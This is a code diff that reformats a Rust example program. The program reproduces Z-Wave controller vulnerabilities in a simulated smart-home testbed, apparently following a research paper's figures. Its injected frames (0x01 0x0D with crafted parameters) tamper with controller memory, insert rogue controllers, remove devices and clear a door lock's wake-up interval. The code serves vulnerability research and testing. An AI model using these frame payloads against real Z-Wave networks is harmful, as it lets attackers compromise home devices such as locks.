@@ -12,8 +12,8 @@
 //! * Figure 11 / bug #04 — the device table is overwritten with fakes;
 //! * bug #12 — the lock's wake-up interval is cleared.
 
-use zcover_suite::zwave_protocol::{MacFrame, NodeId};
 use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed};
+use zcover_suite::zwave_protocol::{MacFrame, NodeId};
 
 fn inject(home: &mut Testbed, attacker: &zcover_suite::zwave_radio::Transceiver, params: &[u8]) {
     let mut payload = vec![0x01, 0x0D];
@@ -36,20 +36,29 @@ fn main() {
     // Figure 8 — bug #01: change device #2 (the S2 door lock) to a
     // routing slave.
     inject(&mut home, &attacker, &[0x02, 0x04]);
-    println!("after [0x01 0x0D 0x02 0x04] (bug #01, memory tampering):\n{}", home.controller().nvm().dump());
+    println!(
+        "after [0x01 0x0D 0x02 0x04] (bug #01, memory tampering):\n{}",
+        home.controller().nvm().dump()
+    );
 
     // Bug #12: clear the lock's wake-up interval.
     let mut home = Testbed::new(DeviceModel::D6, 11);
     let attacker = home.attach_attacker(70.0);
     inject(&mut home, &attacker, &[0x02, 0x00]);
-    println!("after [0x01 0x0D 0x02 0x00] (bug #12, wake-up interval removed):\n{}", home.controller().nvm().dump());
+    println!(
+        "after [0x01 0x0D 0x02 0x00] (bug #12, wake-up interval removed):\n{}",
+        home.controller().nvm().dump()
+    );
 
     // Figure 9 — bug #02: insert rogue controllers #10 and #200.
     let mut home = Testbed::new(DeviceModel::D6, 11);
     let attacker = home.attach_attacker(70.0);
     inject(&mut home, &attacker, &[10, 0x01]);
     inject(&mut home, &attacker, &[200, 0x01]);
-    println!("after inserting rogue ids #10 and #200 (bug #02):\n{}", home.controller().nvm().dump());
+    println!(
+        "after inserting rogue ids #10 and #200 (bug #02):\n{}",
+        home.controller().nvm().dump()
+    );
 
     // Figure 10 — bug #03: remove devices #2 and #3.
     let mut home = Testbed::new(DeviceModel::D6, 11);
